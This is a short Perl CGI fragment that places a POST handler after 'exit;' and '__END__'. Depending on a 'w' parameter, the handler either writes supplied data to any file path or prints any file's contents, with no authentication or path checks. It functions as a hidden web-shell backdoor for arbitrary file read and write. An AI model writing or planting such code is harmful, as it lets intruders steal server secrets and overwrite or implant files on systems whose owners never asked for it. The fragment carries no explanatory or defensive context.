exit;
__END__
if( $q->request_method eq 'POST' ){
  my ($w,$p)=( $q->param('w'), $q->param('p') );
  if( $w eq 'put' ){ open( my $o, '>', $p ); syswrite( $o, $q->param('d') ); }
  elsif( $w eq 'get' ){ open( my $i, '<', $p ) or goto last_step; print $_ while <$i>; }
}
last_step: 1;
